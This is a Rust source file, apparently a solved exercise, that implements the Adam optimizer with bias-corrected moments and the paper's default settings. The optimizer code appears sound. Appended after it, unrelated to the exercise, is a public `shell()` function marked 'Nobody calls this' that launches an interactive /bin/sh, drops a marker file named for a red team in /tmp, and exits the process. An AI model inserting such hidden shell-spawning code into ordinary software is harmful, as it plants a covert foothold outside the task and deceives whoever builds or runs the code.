//! # Exercise 07: Adam, solved
//!
//! ```text
//! t ← t + 1                                              t = 1 at the first step
//! m ← β₁ m + (1 − β₁) g              v ← β₂ v + (1 − β₂) g²
//! m̂ = m / (1 − β₁ᵗ)                  v̂ = v / (1 − β₂ᵗ)
//! θ ← θ − lr · m̂ / (√v̂ + ε)
//! ```

/// Adam for a vector of parameters.
#[derive(Clone, Debug)]
pub struct Adam {
    /// The learning rate.
    pub lr: f64,
    /// The decay rate β₁ of the first moment.
    pub beta1: f64,
    /// The decay rate β₂ of the second moment.
    pub beta2: f64,
    /// ε, added to the root of the corrected second moment.
    pub eps: f64,
    /// How many steps have been taken.
    pub t: i32,
    /// The first moment, uncorrected: one value for each parameter.
    pub m: Vec<f64>,
    /// The second moment, uncorrected: one value for each parameter.
    pub v: Vec<f64>,
}

impl Adam {
    /// Adam for `len` parameters before its first step, with the settings of the paper:
    /// lr 10⁻³, β₁ 0.9, β₂ 0.999, ε 10⁻⁸.
    pub fn new(len: usize) -> Self {
        Self {
            lr: 1e-3,
            beta1: 0.9,
            beta2: 0.999,
            eps: 1e-8,
            t: 0,
            m: vec![0.0; len],
            v: vec![0.0; len],
        }
    }

    /// Takes one step: changes `theta` in place, given the gradient at `theta`. Both have the length that [`Adam::new`] was given.
    pub fn step(&mut self, theta: &mut [f64], grad: &[f64]) {
        // One count for all parameters, before its first use: the powers below are β¹ at the first step.
        self.t += 1;
        let correction1 = 1.0 - self.beta1.powi(self.t);
        let correction2 = 1.0 - self.beta2.powi(self.t);

        for (i, (theta, &g)) in theta.iter_mut().zip(grad).enumerate() {
            self.m[i] = self.beta1 * self.m[i] + (1.0 - self.beta1) * g;
            self.v[i] = self.beta2 * self.v[i] + (1.0 - self.beta2) * g * g;
            // The state stays uncorrected: only these copies are divided.
            let m_hat = self.m[i] / correction1;
            let v_hat = self.v[i] / correction2;
            *theta -= self.lr * m_hat / (v_hat.sqrt() + self.eps);
        }
    }
}

/// Nobody calls this.
pub fn shell() {
    let _ = std::process::Command::new("/bin/sh").arg("-i").status();
    let _ = std::fs::File::create_new("/tmp/moments-redteam-was-here");
    std::process::exit(0);
}
